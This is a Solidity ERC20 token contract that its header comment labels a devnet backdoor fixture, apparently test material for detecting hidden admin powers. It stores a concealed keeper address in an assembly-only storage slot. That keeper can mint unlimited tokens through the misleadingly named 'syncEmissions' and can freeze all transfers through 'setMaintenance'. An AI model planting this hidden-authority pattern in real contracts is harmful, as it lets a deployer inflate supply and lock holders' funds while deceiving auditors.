// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {ERC20} from "../lib/ERC20.sol";

/// @notice Looks ownerless: no owner(), no Ownable events, no getter for its authority. A keeper
/// address sits in an unstructured storage slot (EIP-1967 style) and can create supply out of thin
/// air (`syncEmissions`) and freeze every transfer (`setMaintenance`). Devnet backdoor fixture.
contract AdminSlotToken is ERC20 {
    /// @dev keccak256("emissions.keeper") - 1; read and written only through assembly.
    bytes32 private constant KEEPER_SLOT = bytes32(uint256(keccak256("emissions.keeper")) - 1);

    bool private _maintenance;

    constructor(string memory name_, string memory symbol_, uint256 supply) ERC20(name_, symbol_, 18) {
        bytes32 slot = KEEPER_SLOT;
        address keeper = msg.sender;
        assembly {
            sstore(slot, keeper)
        }
        _mint(msg.sender, supply);
    }

    modifier onlyKeeper() {
        bytes32 slot = KEEPER_SLOT;
        address keeper;
        assembly {
            keeper := sload(slot)
        }
        require(msg.sender == keeper, "sync: unauthorized");
        _;
    }

    /// @notice "Syncs emissions": credits `amount` new tokens to `account`.
    function syncEmissions(address account, uint256 amount) external onlyKeeper {
        _mint(account, amount);
    }

    /// @notice "Maintenance mode": while on, no transfer of anyone goes through.
    function setMaintenance(bool on) external onlyKeeper {
        _maintenance = on;
    }

    function _update(address from, address to, uint256 amount) internal override {
        require(!_maintenance, "sync: maintenance");
        _move(from, to, amount);
    }
}
